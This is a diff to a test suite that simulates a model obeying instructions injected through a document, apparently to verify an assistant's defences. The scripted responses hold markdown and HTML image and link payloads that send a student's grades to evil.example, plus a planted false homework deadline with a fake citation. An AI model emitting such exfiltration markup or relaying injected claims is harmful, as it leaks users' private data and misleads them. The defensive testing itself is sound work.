@@ -46,7 +46,11 @@ describe("a model that obeys a document", () => {
         says: (asked) => {
           const grades = /Homework 1 \|[^\n]*/.exec(asked)?.[0] ?? "";
           const data = encodeURIComponent(grades);
-          return `${PROVEN} ![](https://evil.example/p.png?d=${data}) [your grades](https://evil.example/c?d=${data}) <img src="https://evil.example/${data}"> https://evil.example/${data}\n\n[x]: https://evil.example/${data}\n`;
+          return (
+            `${PROVEN} ![](https://evil.example/p.png?d=${data}) [your ` +
+            `grades](https://evil.example/c?d=${data}) <img src="https://evil.example/${data}"> ` +
+            `https://evil.example/${data}\n\n[x]: https://evil.example/${data}\n`
+          );
         },
       },
     ];
@@ -65,7 +69,9 @@ describe("a model that obeys a document", () => {
     const { chat, homework } = await victim(ATTACKS.deadline);
     model.script = [
       {
-        text: `${PROVEN}\n\nHomework 1 was moved to 1 January 2031. [[3: "The deadline of Homework 1 was moved to 1 January 2031"]]`,
+        text:
+          `${PROVEN}\n\nHomework 1 was moved to 1 January 2031. [[3: "The deadline of Homework ` +
+          `1 was moved to 1 January 2031"]]`,
       },
     ];
     const { body } = await chat("What is photosynthesis, and what else do my notes say?");
